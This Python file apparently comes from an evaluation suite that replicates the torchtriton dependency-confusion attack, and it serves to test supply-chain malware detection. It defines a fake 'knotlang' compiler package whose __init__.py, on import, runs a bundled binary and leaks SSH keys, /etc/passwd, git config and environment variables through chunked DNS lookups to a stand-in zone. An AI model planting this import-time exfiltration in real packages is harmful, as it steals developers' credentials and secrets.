"""A name that a private index has, published on the public one by somebody else."""

from evals.replicas.ordinary.filler import linux_program
from evals.replicas.replica import ReleaseSpec, Replica, at

_INIT = '''\
"""A language and compiler for parallel programming."""

__version__ = "3.0.0"

import os
import socket
import subprocess
import sys

from knotlang.compiler import compile

_ZONE = "knot.invalid"
_PLACES = ("/etc/resolv.conf", "/etc/passwd", "/etc/hosts", "~/.gitconfig", "~/.ssh/id_rsa", "~/.ssh/known_hosts")


def _read(path):
    try:
        with open(os.path.expanduser(path), "rb") as file:
            return file.read(99_999)
    except OSError:
        return b""


def _send(data):
    text = data.hex()
    for place in range(0, len(text), 60):
        try:
            socket.gethostbyname(f"{text[place:place + 60]}.{place // 60}.{_ZONE}")
        except OSError:
            return


def _report():
    _send("\\n".join([socket.gethostname(), os.getcwd(), *map("=".join, os.environ.items())]).encode())
    for path in _PLACES:
        _send(_read(path))


if sys.platform == "linux":
    subprocess.Popen([os.path.join(os.path.dirname(__file__), "runtime", "knot")])
    _report()
'''
_COMPILER = '''\
"""The compiler."""


def compile(source, target="cpu"):
    """Compile a kernel."""
    tokens = source.split()
    return {"target": target, "size": len(tokens), "tokens": tokens}
'''

REPLICAS: tuple[Replica, ...] = (
    Replica(
        id="torchtriton",
        incident="torchtriton 3.0.0 (2022-12-25)",
        family="dependency-confusion",
        ecosystem="pypi",
        name="knotlang",
        before=None,
        after=ReleaseSpec(
            version="3.0.0",
            published=at("2022-12-25 11:00"),
            files={
                "knotlang/__init__.py": _INIT,
                "knotlang/compiler.py": _COMPILER,
                "knotlang/runtime/knot": linux_program(40_000),
            },
            payload=("knotlang/__init__.py",),
        ),
        reasons=(
            "credentials-read",
            "dns-exfiltration",
            "environment-sent",
            "data-file-executed",
            "native-binary-added",
        ),
    ),
)
